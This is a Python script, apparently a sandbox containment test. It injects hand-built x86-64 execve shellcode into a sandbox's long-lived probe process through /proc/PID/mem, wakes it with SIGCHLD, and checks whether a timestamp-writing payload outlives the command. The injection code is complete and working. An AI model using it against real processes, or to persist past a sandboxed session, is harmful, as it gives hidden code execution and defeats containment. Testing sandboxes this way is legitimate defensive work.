"""inject.py: as the sandbox's own user, write an execve of a payload into
the sandbox's long-lived process (the idle probe) through /proc/PID/mem at
its program counter, then wake it with SIGCHLD. The payload appends the time
to /workspace/.injected every second, so the host sees whether it outlived
the command. x86-64 only. Prints one line: INJECTED, REFUSED or NOTARGET."""
import os
import platform
import signal
import struct
import sys


def target():
    me = os.getpid()
    for d in sorted(os.listdir("/proc"), key=lambda x: (len(x), x)):
        if not d.isdigit() or int(d) == me:
            continue
        try:
            cmd = open("/proc/%s/cmdline" % d, "rb").read()
        except OSError:
            continue
        if cmd.startswith(b"/.sandgate/probe\0idle"):
            return int(d)
    return None


def shellcode(pc):
    """execve("/bin/sh", ["/bin/sh", "-c", PAYLOAD], NULL) placed at pc."""
    payload = b"while :; do date +%s >> /workspace/.injected; sleep 1; done"
    strings = b"/bin/sh\0-c\0" + payload + b"\0"
    data = 64
    sh, c, pl = pc + data, pc + data + 8, pc + data + 11
    argv = pc + data + ((len(strings) + 15) // 16) * 16
    code = (b"\x48\xbf" + struct.pack("<Q", sh) +      # movabs rdi, sh
            b"\x48\xbe" + struct.pack("<Q", argv) +    # movabs rsi, argv
            b"\x31\xd2" +                              # xor edx, edx
            b"\xb8\x3b\x00\x00\x00" +                  # mov eax, 59
            b"\x0f\x05")                               # syscall
    blob = code.ljust(data, b"\x90") + strings
    blob = blob.ljust(argv - pc, b"\0") + struct.pack("<QQQQ", sh, c, pl, 0)
    return blob


pid = target()
if pid is None:
    print("NOTARGET: no /.sandgate/probe idle process visible")
    sys.exit(0)
if platform.machine() != "x86_64":
    print("NOTARGET: not x86-64")
    sys.exit(0)
try:
    fd = os.open("/proc/%d/mem" % pid, os.O_RDWR)
except OSError as e:
    print("REFUSED pid %d: open /proc/%d/mem for writing: %s" % (pid, pid, e.strerror))
    sys.exit(0)
try:
    pc = int(open("/proc/%d/syscall" % pid).read().split()[-1], 16)
    os.pwrite(fd, shellcode(pc), pc)
    os.kill(pid, signal.SIGCHLD)
except (OSError, ValueError, IndexError) as e:
    print("REFUSED pid %d: %s" % (pid, getattr(e, "strerror", None) or e))
    sys.exit(0)
print("INJECTED pid %d at pc 0x%x: the payload now runs as that process" % (pid, pc))
